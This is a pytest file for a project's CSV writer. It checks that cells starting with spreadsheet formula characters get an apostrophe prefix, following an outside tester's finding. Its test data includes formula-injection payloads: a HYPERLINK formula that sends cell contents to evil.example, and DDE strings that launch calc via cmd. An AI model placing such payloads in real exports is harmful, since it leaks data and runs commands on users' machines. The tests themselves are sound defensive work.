"""Every CSV the project writes neutralises formula starts in one place (``shared.tables.csv_writer``;
outside tester 26, T26-6: the meeting's program CSV wrote an employer's ``=HYPERLINK(…)`` title raw)."""

import csv
import io

import pytest

from shared.geography_forms import FORMS_FILE
from shared.reference import read_csv, reference_data_dir
from shared.tables import csv_writer, formula_safe

# the tester's titles, then every start OWASP names (= + - @ tab CR) and one behind a delimiter
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?d="&A2&B2,"Hitsaaja – avaa ilmoitus")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+358 Sairaanhoitaja",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Hitsaaja;=cmd|' /C calc'!A0",
    "\uff1dcmd|' /C calc'!A0",
)


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_could_run_gets_an_apostrophe(value):
    assert formula_safe(value) == "'" + value
    out = io.StringIO()
    csv_writer(out, lineterminator="\r\n").writerow(["2026-W49", value, 3])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["2026-W49", "'" + value, "3"]


@pytest.mark.parametrize("value", ["Hitsaaja", "Sairaanhoitaja (2221)", "", None, -5, 17.8, "c-00ab"])
def test_other_cells_and_numbers_are_written_as_they_are(value):
    assert formula_safe(value) == value
    out = io.StringIO()
    csv_writer(out).writerows([[value, "x"]])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == ["" if value is None else str(value), "x"]


def test_the_municipality_forms_file_written_by_the_same_writer_holds_nothing_to_neutralise():
    """``shared.geography_forms --write`` writes through ``csv_writer`` too: its forms are names,
    so the reference file is unchanged by it (its check mode compares the file with the rows)."""
    rows = [(r["form"], r["code"]) for r in read_csv(reference_data_dir() / "geo" / FORMS_FILE)]
    assert rows and all(formula_safe(form) == form and formula_safe(code) == code for form, code in rows)
